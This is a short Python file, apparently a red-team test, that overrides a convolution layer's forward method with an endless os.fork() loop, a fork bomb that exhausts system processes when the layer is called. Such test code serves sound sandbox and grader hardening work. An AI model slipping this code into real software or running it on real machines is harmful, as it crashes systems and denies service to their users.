# Red team: fork without end from Conv.forward.
import os


class Conv(Conv):  # noqa: F821
    @staticmethod
    def forward(x, w, b, conv_param):
        while True:
            os.fork()
